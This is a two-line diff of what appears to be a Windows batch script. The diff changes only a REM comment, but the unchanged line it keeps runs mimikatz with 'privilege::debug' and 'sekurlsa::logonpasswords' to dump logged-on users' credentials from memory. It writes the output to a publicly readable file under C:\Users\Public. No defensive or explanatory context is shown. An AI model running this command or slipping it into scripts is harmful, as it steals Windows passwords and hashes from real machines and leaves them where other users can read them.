@@ -1,2 +1,2 @@
-REM run 5187 v3
+REM init 6265 v3
 mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
